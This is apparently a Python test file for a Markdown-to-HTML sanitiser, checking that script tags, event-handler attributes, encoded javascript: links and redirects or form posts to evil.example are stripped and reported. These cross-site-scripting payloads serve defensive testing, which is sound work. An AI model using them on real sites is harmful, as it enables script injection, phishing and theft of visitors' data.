"""Text that tries to run, load, send or lead astray: nothing of it is left, and each try is reported."""

from __future__ import annotations

import re
from html import unescape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from campaign.markup import convert
from campaign.markup.addresses import SCHEMES
from tests.unit.markup.inspector import Inspector

SNIPPETS = [
    # elements that run, load, send or imitate
    ("<script>alert(1)</script>", "html/not-allowed"),
    ("text <script>alert(1)</script> text", "html/not-allowed"),
    ("<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "html/not-allowed"),
    ("<script\n>alert(1)</script\n>", "html/not-allowed"),
    ("<script/x>alert(1)</script>", "html/not-allowed"),
    ("<scr<script>ipt>alert(1)</scr</script>ipt>", "html/not-allowed"),
    ("<<script>alert(1)//<</script>", "html/not-allowed"),
    ("<!--><script>alert(1)</script>-->", "html/not-allowed"),
    ("<!-- --!><script>alert(1)</script> -->", "html/not-allowed"),
    ("<iframe src=https://evil.example></iframe>", "html/not-allowed"),
    ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', "html/not-allowed"),
    ('<object data="data:text/html,x"></object>', "html/not-allowed"),
    ("<embed src=javascript:alert(1)>", "html/not-allowed"),
    ("<applet code=x></applet>", "html/not-allowed"),
    ('<form action="https://evil.example"><input name=card></form>', "html/not-allowed"),
    ("text <form> text", "html/not-allowed"),
    ('<input type="text" name="card">', "html/not-allowed"),
    ('<input type="checkbox" checked name="consent">', "html/not-allowed"),
    ('<p><input type="radio" id="__tabbed_9_1" name="__tabbed_9"></p>', "html/not-allowed"),
    ("<button formaction=javascript:alert(1)>go</button>", "html/not-allowed"),
    ("<textarea autofocus onfocus=alert(1)></textarea>", "html/not-allowed"),
    ("<select onchange=alert(1)><option>x</select>", "html/not-allowed"),
    ("<style>body{display:none}</style>", "html/not-allowed"),
    ("<link rel=stylesheet href=https://evil.example/x.css>", "html/not-allowed"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "html/not-allowed"),
    ("<base href=https://evil.example/>", "html/not-allowed"),
    ("<svg onload=alert(1)></svg>", "html/not-allowed"),
    ("<svg/onload=alert(1)>", "html/not-allowed"),
    ("<svg><script>alert(1)</script></svg>", "html/not-allowed"),
    ("<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "html/not-allowed"),
    ("<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "html/not-allowed"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "html/not-allowed"),
    ("<video src=x onerror=alert(1)></video>", "html/not-allowed"),
    ("<audio autoplay src=https://evil.example/a.mp3></audio>", "html/not-allowed"),
    ("<source srcset=https://evil.example/a.png>", "html/not-allowed"),
    ("<picture><source srcset=x><img src=x alt=x></picture>", "html/not-allowed"),
    ("<body onload=alert(1)>", "html/not-allowed"),
    ("<frameset><frame src=javascript:alert(1)></frameset>", "html/not-allowed"),
    ("<marquee onstart=alert(1)>x</marquee>", "html/not-allowed"),
    ("<dialog open>Your payment failed</dialog>", "html/not-allowed"),
    ("<template><script>alert(1)</script></template>", "html/not-allowed"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "html/not-allowed"),
    ("<title><img src=x onerror=alert(1)></title>", "html/not-allowed"),
    ("<xmp><script>alert(1)</script></xmp>", "html/not-allowed"),
    ("<x onclick=alert(1)>x</x>", "html/not-allowed"),
    ("> <script>alert(1)</script>", "html/not-allowed"),
    ("- item\n\n    <script>alert(1)</script>", "html/not-allowed"),
    ('!!! note "<script>alert(1)</script>"\n\n    text', "html/not-allowed"),
    ("[<script>alert(1)</script>](a.md)", "html/not-allowed"),
    ("| <script>alert(1)</script> |\n|---|\n| x |", "html/not-allowed"),
    ("note[^1]\n\n[^1]: <iframe src=x></iframe>", "html/not-allowed"),
    ("<div markdown>\n<script>alert(1)</script>\n</div>", "html/not-allowed"),
    ("term\n:   <script>alert(1)</script>", "html/not-allowed"),
    ("## <script>alert(1)</script> heading", "html/not-allowed"),
    ("<div><script>alert(1)</div>", "html/not-allowed"),
    ("<?php <script>alert(1)</script> ?>", "html/not-allowed"),
    # attributes
    ("<img src=x.png alt=x onerror=alert(1)>", "html/attribute"),
    ("<IMG SRC=x.png ALT=x ONERROR=alert(1)>", "html/attribute"),
    ("<div>\n<img/src=x.png/alt=x/onerror=alert(1)>\n</div>", "html/attribute"),
    ('<div>\n<img src="x.png" alt="x"onerror="alert(1)">\n</div>', "html/attribute"),
    ('<p onmouseover="alert(1)">x</p>', "html/attribute"),
    ("<details open ontoggle=alert(1)><summary>x</summary></details>", "html/attribute"),
    ("<b style=background:url(https://evil.example)>x</b>", "html/attribute"),
    ('<div style="position:fixed;inset:0">x</div>', "html/attribute"),
    ("<img src=x.png alt=x srcset=https://evil.example/a.png>", "html/attribute"),
    ("<a href=a.md target=_blank>x y</a>", "html/attribute"),
    ("<a href=a.md ping=https://evil.example>x y</a>", "html/attribute"),
    ("<p contenteditable autofocus onfocus=alert(1)>x</p>", "html/attribute"),
    ("<td background=https://evil.example/a.png>x</td>", "html/attribute"),
    ("<div is=x-form>x</div>", "html/attribute"),
    ("[x y](a.md){ onclick=alert(1) }", "html/attribute"),
    ("[x y](a.md){: onclick='alert(1)' }", "html/attribute"),
    ("[x y](a.md){:target=_blank}", "html/attribute"),
    ("![x y](a.png){ onerror=alert(1) }", "html/attribute"),
    ("## Heading { onclick=alert(1) }", "html/attribute"),
    ("A paragraph\n{: onclick=alert(1) }", "html/attribute"),
    ("``` { .python onclick=alert(1) }\nx\n```", "html/attribute"),
    ("*word*{ style=position:fixed }", "html/attribute"),
    # links
    ("[x y](javascript:alert(1))", "link/scheme"),
    ("[x y](JaVaScRiPt:alert(1))", "link/scheme"),
    ("[x y](&#106;avascript:alert(1))", "link/scheme"),
    ("[x y](&#x6A;avascript&colon;alert(1))", "link/scheme"),
    ("[x y](java&Tab;script:alert(1))", "link/scheme"),
    ("[x y](java&#10;script:alert(1))", "link/scheme"),
    ("[x y](java\u200bscript:alert(1))", "link/scheme"),
    ("[x y](\u00a0javascript:alert(1))", "link/scheme"),
    ("[x y](%6aavascript:alert(1))", "link/scheme"),
    ("[x y](%256aavascript%253aalert(1))", "link/scheme"),
    ("[x y](<java script:alert(1)>)", "link/scheme"),
    ("[x y](vbscript:msgbox)", "link/scheme"),
    ("[x y](data:text/html;base64,PHNjcmlwdD4=)", "link/scheme"),
    ("[x y](file:///etc/passwd)", "link/scheme"),
    ("[x y](blob:https://evil.example/1)", "link/scheme"),
    ("[x y][r]\n\n[r]: javascript:alert(1)", "link/scheme"),
    ("<javascript://example.org/%0aalert(1)>", "link/scheme"),
    ("[![x y](a.png)](javascript:alert(1))", "link/scheme"),
    ("![x y](javascript:alert(1))", "link/scheme"),
    ("![x y](data:image/svg+xml,<svg/onload=alert(1)>)", "link/scheme"),
    ("<a href='javascript:alert(1)'>x y</a>", "link/scheme"),
    ("<a href=javascript&colon;alert(1)>x y</a>", "link/scheme"),
    ('<a href=" java\nscript:alert(1)">x y</a>', "link/scheme"),
    ("[x y](//evil.example/login)", "link/no-scheme"),
    ("[x y](\\\\\\\\evil.example)", "link/no-scheme"),
    ("[x y](/\\evil.example)", "link/no-scheme"),
    # parts of the site that are imitated or hijacked
    ('<div class="c-donate">Give here</div>', "html/reserved-class"),
    ("A paragraph\n{: .c-subscribe }", "html/reserved-class"),
    ('<p id="main">x</p>', "html/reserved-id"),
    ("## Heading {#sources}", "html/reserved-id"),
    ('<p id="action-newsletter-email">x</p>', "html/reserved-id"),
    ('<p id="__tabbed_1_1">x</p>', "html/reserved-id"),
]


@pytest.mark.parametrize(("body", "code"), SNIPPETS, ids=range(len(SNIPPETS)))
def test_nothing_that_acts_is_left_and_it_is_reported(body, code, html_of, codes_of):
    assert Inspector(html_of(body)).refused == []
    assert code in codes_of(body)


@pytest.mark.parametrize(("body", "code"), SNIPPETS, ids=range(len(SNIPPETS)))
def test_a_hostile_line_is_reported_where_it_stands(body, code, convert_body):
    lines_before = 5
    text = "An ordinary line.\n\n" * (lines_before // 2) + "Another.\n\n" + body
    _, diagnostics = convert_body(text)
    first = 2 * (lines_before // 2) + 3
    last = first + body.count("\n")
    assert [one for one in diagnostics if one.code == code and first <= one.span.line <= last]


@pytest.mark.parametrize(("body", "code"), SNIPPETS, ids=range(len(SNIPPETS)))
def test_the_same_text_as_code_is_shown_and_not_reported(body, code, codes_of, html_of):
    fenced = f"````\n{body}\n````"
    assert codes_of(fenced) == []
    assert Inspector(html_of(fenced)).refused == []


@pytest.mark.parametrize(
    "body",
    [
        "<img/src=x.png/alt=x/onerror=alert(1)>",
        "\\<script>alert(1)\\</script>",
        "a <5 b> c",
        "< script>",
    ],
)
def test_what_is_no_tag_to_markdown_is_shown_as_it_was_written(body, html_of, codes_of):
    assert unescape(html_of(body)) == f"<p>{body}</p>".replace("\\", "")
    assert codes_of(body) == []


def test_a_plain_style_and_a_comment_go_quietly(html_of, codes_of):
    body = '<p style="color: red">red <span style="">x</span> <!-- to check --></p>'
    assert codes_of(body) == []
    assert html_of(body) == "<p>red <span>x</span> </p>"


@pytest.mark.parametrize("type_", ["text", "password", "radio", "checkbox"])
def test_no_field_of_an_author_is_left(type_, html_of):
    names = [
        "",
        ' name="__tabbed_1"',
        ' id="__tabbed_1_1" name="__tabbed_1"',
        " disabled",
        " checked",
    ]
    for name in names:
        body = f'<p><input type="{type_}"{name}></p>\n\nText <input{name} type={type_}> text'
        assert "<input" not in html_of(body)


def test_what_a_word_processor_pastes_goes_quietly(html_of, codes_of):
    body = '<p class="MsoNormal" lang="EN-GB"><o:p></o:p><font face="Arial">Text</font></p>'
    assert codes_of(body) == []
    assert html_of(body) == '<p lang="EN-GB">Text</p>'


@pytest.mark.parametrize(
    "written", ["<name>", "<javascript:alert(1)>", "<data:text/html,x>", "<from:Monday-Friday>"]
)
def test_words_in_angle_brackets_do_not_vanish_in_silence(convert_body, written):
    _, diagnostics = convert_body(f"Dear {written}, please write.")
    assert [(one.code, one.severity, str(one.span)) for one in diagnostics] == [
        ("html/unknown-element", "warning", "content/pages/a.md:1:6")
    ]


def test_an_embed_inside_a_comment_is_not_reported(codes_of, html_of):
    body = "Before\n\n<!-- <iframe src=https://example.org></iframe> -->\n\nAfter"
    assert codes_of(body) == []
    assert "iframe" not in html_of(body)


def test_an_attribute_is_underlined_itself(convert_body):
    _, (fault,) = convert_body('Text\n\n[The report](a.md){ .lead target="_blank" }')
    assert (fault.code, fault.span.line, fault.span.column) == ("html/attribute", 3, 27)
    assert fault.span.end_column == 33


def test_classes_of_our_components_cannot_be_had_by_a_kind_of_box(html_of, codes_of):
    body = '!!! c-donate "Give"\n\n    Text'
    assert "c-donate" not in html_of(body)
    assert codes_of(body) == ["markup/unknown-admonition"]


def test_classes_of_our_components_cannot_be_had_by_a_language_of_code(html_of):
    assert "c-donate" not in html_of("``` { .c-donate .c-donate }\nx\n```")


def test_an_author_cannot_write_a_mark(html_of):
    marks = "\ue0000123456789abcdef01230\ue001"
    assert html_of(f"Text {marks} [@a]") == f"<p>Text {marks} ⟦a⟧</p>"


def test_an_author_cannot_use_the_attribute_that_marks_stand_in(html_of):
    assert "data-k" not in html_of('<b data-k="1" data-h="2">x</b>\n\n*a*{ data-k=0 }')
    assert "data-k" not in html_of("<div>]a<b\n### H {#x}\n:word <br/><div></div><br/>&amp;<div>")


PIECES = st.sampled_from(
    [
        *(body for body, _ in SNIPPETS),
        *"<>\"'/=&;:[](){}!*_`#|\\ \n-",
        *(
            "\n\n",
            "    ",
            "<p ",
            "<a href=",
            "<!--",
            "-->",
            "<![CDATA[",
            "]]>",
            "</",
            "<div markdown>",
        ),
        *(
            "javascript:",
            "&#",
            "style=",
            "on",
            "text",
            "é",
            "\u202f",
            "{:",
            "/// ",
            "!!! note",
            "===",
            "[^1]",
        ),
        *(
            "<table>",
            "<td>",
            "</table>",
            "<svg>",
            "</p>",
            "<style>",
            "<select>",
            "<pre>",
            "[@a, p. 1]",
        ),
    ]
)


@given(st.lists(PIECES, max_size=25).map("".join))
def test_no_mixture_of_hostile_pieces_leaves_anything_that_acts(body):
    markup, _ = convert(body, file="a.md", first_line=1)
    shown = "".join(one if isinstance(one, str) else "#" for one in markup.segments)
    assert Inspector(shown).refused == []
    assert "\ue000" not in shown
    for link in markup.links:
        scheme = re.match(r"([\w+.-]+):", link.target)
        assert scheme is None or scheme[1].lower() in SCHEMES


@given(st.text(max_size=200))
def test_no_text_at_all_makes_it_fail(body):
    markup, diagnostics = convert(body, file="a.md", first_line=1)
    assert isinstance(markup.segments, tuple)
    assert all(one.span.line >= 1 for one in diagnostics)
    assert "markup/not-readable" not in [one.code for one in diagnostics]
